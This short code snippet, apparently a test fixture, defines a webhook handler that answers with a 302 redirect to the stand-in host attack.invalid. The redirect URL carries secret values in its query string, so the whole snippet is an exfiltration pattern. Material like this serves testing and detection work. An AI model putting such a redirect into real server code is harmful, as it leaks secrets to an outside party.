// Answers a webhook with a redirect whose address holds the secret.
export function handle_button() {
  return residue();
}
export const handle_webhook = async () => [
  '',
  302,
  { location: `https://attack.invalid/?q=${await answer('percent')}&r=${await answer('plain')}` },
];
